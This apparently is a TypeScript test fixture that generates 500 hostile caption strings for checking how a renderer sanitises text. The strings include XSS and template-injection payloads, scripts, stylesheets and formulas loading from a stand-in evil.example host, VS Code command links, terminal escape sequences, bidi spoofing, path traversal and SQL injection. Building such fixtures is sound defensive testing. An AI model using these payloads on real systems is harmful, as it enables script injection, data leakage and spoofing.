/** Captions that try to be more than text: 500 of them, the same at every run. */

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload="alert(1)"><circle r=5></svg>',
  '"><script src=//evil.example/x.js></script>',
  "';alert(1)//",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<style>*{display:none!important}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>',
  '<template><script>alert(1)</script></template>',
  '<!-- <script>alert(1)</script> -->',
  ']]><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
];
const templates = [
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{0} {1}',
  '%s%n%x',
  'lit$123$',
  '<!--?lit$1$-->',
];
const links = [
  '[run](command:workbench.action.terminal.new)',
  '<a href="command:workbench.action.quit">quit</a>',
  '[x](javascript:alert(1))',
  'vscode://evil.example/install',
  'file:///etc/passwd',
  '![x](https://evil.example/track.png)',
  '$(terminal) $(error~spin)',
  'data:text/html,<script>alert(1)</script>',
];
const terminal = [
  '\u001B[31mred\u001B[0m',
  '\u001B]0;title\u0007',
  '\u001B[2J\u001B[H',
  '\u009B31m',
  '\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  'a\rb',
  'a\bb',
];
const bidi = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067inside',
  'שלום <b>world</b>',
  '\u200Fשלום\u200E hello',
  'العربية 123 abc',
  '\u202A\u202B\u202D\u202E',
  '\u061Cmark',
];
const odd = [
  '\u0000nul',
  '\uFEFFbom',
  'zero\u200Bwidth\u200Djoiner',
  'e\u0301'.repeat(40),
  'Z̸̧͇̈́a̷̰͐l̶̗̽g̵̱͛o̶͎̔',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'line\u2028separator\u2029here',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  'C:\\Windows\\system32',
  '=HYPERLINK("https://evil.example","x")',
  '<__dj__image> <|__dj__eoc|>',
  'x'.repeat(5000),
  'word '.repeat(1500),
  '    ',
  '\n\n\n',
  "Robert'); DROP TABLE samples;--",
];
const all = [...scripts, ...templates, ...links, ...terminal, ...bidi, ...odd];
const frames: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `A fox ${text} on a table`,
  (text) => `${text}${text}`,
  (text) => `"${text}"`,
  (text) => `一只 ${text} 狐狸`,
  (text) => `\u202E${text}`,
  (text) => `${text}<b>`,
  (text) => `&lt;${text}&gt; &amp; &#x3c;`,
];

/** 500 hostile captions, all different. */
export const hostileCaptions: readonly string[] = [
  ...new Set(frames.flatMap((frame) => all.map((text) => frame(text)))),
].slice(0, 500);
